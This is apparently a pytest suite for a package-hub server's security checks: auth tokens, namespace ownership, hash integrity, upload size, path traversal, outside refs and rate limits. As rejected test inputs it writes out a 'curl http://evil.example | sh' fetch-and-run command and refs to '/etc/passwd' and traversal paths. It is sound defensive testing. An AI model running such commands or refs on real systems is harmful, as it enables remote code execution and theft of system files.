"""What the hub refuses: other namespaces, bad tokens, tampered hashes, oversized
uploads, refs that leave the package — each with a clear error and nothing stored."""

from __future__ import annotations

from typing import Any

import pytest
from helpers import auth, package_body, sop_text, workflow_text


def _nothing_stored(client: Any, spec: str) -> None:
    assert client.get(f"/api/v1/packages/{spec}").status_code == 404


def test_publishing_needs_a_valid_token(client: Any) -> None:
    body = package_body({"d.osop.yaml": workflow_text()}, "d.osop.yaml")
    missing = client.put("/api/v1/packages/acme/d/1.0.0", json=body)
    assert missing.status_code == 401 and "token" in missing.json()["detail"]
    wrong = client.put("/api/v1/packages/acme/d/1.0.0", json=body, headers=auth("osop_nope"))
    assert wrong.status_code == 401
    _nothing_stored(client, "acme/d")


def test_no_publishing_or_yanking_in_another_namespace(client: Any, store: Any) -> None:
    mine = store.create_token("acme")
    theirs = store.create_token("mallory")
    body = package_body({"d.osop.yaml": workflow_text()}, "d.osop.yaml")
    refused = client.put("/api/v1/packages/acme/d/1.0.0", json=body, headers=auth(theirs))
    assert refused.status_code == 403
    assert "another owner's namespace" in refused.json()["detail"]
    _nothing_stored(client, "acme/d")
    assert (
        client.put("/api/v1/packages/acme/d/1.0.0", json=body, headers=auth(mine)).status_code
        == 201
    )
    yank = client.post("/api/v1/packages/acme/d/1.0.0/yank", json={}, headers=auth(theirs))
    assert yank.status_code == 403
    assert client.get("/api/v1/packages/acme/d/1.0.0").json()["yanked"] is False


def test_revoked_tokens_stop_working(client: Any, store: Any) -> None:
    token = store.create_token("acme")
    assert client.get("/api/v1/whoami", headers=auth(token)).json() == {"owner": "acme"}
    assert store.revoke_tokens("acme") == 1
    assert client.get("/api/v1/whoami", headers=auth(token)).status_code == 401


def test_tokens_are_stored_hashed(store: Any) -> None:
    from sqlalchemy import select

    from osop.hub.models import Token

    token = store.create_token("acme")
    with store._session() as session:
        hashes = session.scalars(select(Token.token_hash)).all()
    assert token not in hashes and len(hashes) == 1 and len(hashes[0]) == 64


def test_tampered_package_hash_is_refused(client: Any, store: Any) -> None:
    token = store.create_token("acme")
    body = package_body({"d.osop.yaml": workflow_text()}, "d.osop.yaml")
    body["files"]["d.osop.yaml"] = workflow_text(command="curl http://evil.example | sh")
    response = client.put("/api/v1/packages/acme/d/1.0.0", json=body, headers=auth(token))
    assert response.status_code == 422
    assert "content hash mismatch" in response.json()["detail"]
    _nothing_stored(client, "acme/d")


def test_oversized_upload_is_refused(client: Any, store: Any) -> None:
    token = store.create_token("acme")
    padding = "# " + "x" * 400_000 + "\n"  # the test app's limit is 300 kB
    body = package_body({"d.osop.yaml": padding + workflow_text()}, "d.osop.yaml")
    response = client.put("/api/v1/packages/acme/d/1.0.0", json=body, headers=auth(token))
    assert response.status_code == 413
    assert "limit" in response.json()["detail"]
    _nothing_stored(client, "acme/d")


@pytest.mark.parametrize(
    "ref",
    [
        "https://evil.example/steal.osop.yaml",
        "file:///etc/passwd",
        "//evil.example/x.osop.yaml",
        "/etc/passwd",
        "../../outside.osop.yaml",
    ],
)
def test_sop_refs_that_leave_the_package_are_refused(client: Any, store: Any, ref: str) -> None:
    token = store.create_token("acme")
    files = {"h.sop": sop_text([ref, "d.osop.yaml"]), "d.osop.yaml": workflow_text()}
    response = client.put(
        "/api/v1/packages/acme/h/1.0.0", json=package_body(files, "h.sop"), headers=auth(token)
    )
    assert response.status_code == 422, response.text
    assert "nothing was stored" in response.json()["detail"]
    _nothing_stored(client, "acme/h")


@pytest.mark.parametrize("path", ["../x.osop.yaml", "/abs.osop.yaml", "a/./b.osop.yaml", "a\\b"])
def test_package_paths_must_stay_inside(client: Any, store: Any, path: str) -> None:
    token = store.create_token("acme")
    files = {path: workflow_text()}
    response = client.put(
        "/api/v1/packages/acme/p/1.0.0", json=package_body(files, path), headers=auth(token)
    )
    assert response.status_code == 422
    _nothing_stored(client, "acme/p")


def test_writes_are_rate_limited(store: Any) -> None:
    from fastapi.testclient import TestClient

    from osop.hub.server.app import create_app
    from osop.hub.server.limits import Limits

    token = store.create_token("acme")
    with TestClient(create_app(store, Limits(writes_per_minute=2))) as client:
        codes = [
            client.put(
                f"/api/v1/packages/acme/d/1.0.{i}",
                json=package_body({"d.osop.yaml": workflow_text()}, "d.osop.yaml"),
                headers=auth(token),
            ).status_code
            for i in range(3)
        ]
        assert codes == [201, 201, 429]
        refused = client.put(
            "/api/v1/packages/acme/d/1.0.9",
            json=package_body({"d.osop.yaml": workflow_text()}, "d.osop.yaml"),
            headers=auth(token),
        )
        assert refused.status_code == 429 and "Retry-After" in refused.headers
        assert client.get("/api/v1/packages/acme/d/1.0.2").status_code == 404
